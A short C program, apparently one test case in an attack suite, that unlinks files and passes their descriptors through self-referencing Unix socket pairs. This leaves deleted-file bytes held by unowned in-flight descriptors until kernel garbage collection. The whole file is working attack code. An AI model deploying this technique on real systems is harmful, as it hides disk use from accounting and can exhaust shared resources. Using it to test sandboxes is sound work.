/* Sends descriptors of deleted files through sockets that hold each other: they have no owner any
 * more, yet their bytes are there until the kernel comes to look. */
#include "attack.h"
static void pass(int through, int what) {
    char room[CMSG_SPACE(sizeof what)] = {0}, byte = 0;
    struct iovec one = {&byte, 1};
    struct msghdr message = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof what);
    memcpy(CMSG_DATA(head), &what, sizeof what);
    sendmsg(through, &message, MSG_DONTWAIT);
}
int main(void) {
    static char block[1 << 16];
    for (int n = 0; n < 60; n++) {
        int pair[2], file = open("gone", O_CREAT | O_RDWR | O_TRUNC, 0600);
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) break;
        unlink("gone");
        if (write(file, block, sizeof block) < 0) break;
        pass(pair[0], file), pass(pair[0], pair[0]), pass(pair[1], pair[1]), pass(pair[1], file);
        close(pair[0]), close(pair[1]), close(file);
    }
    return done();
}
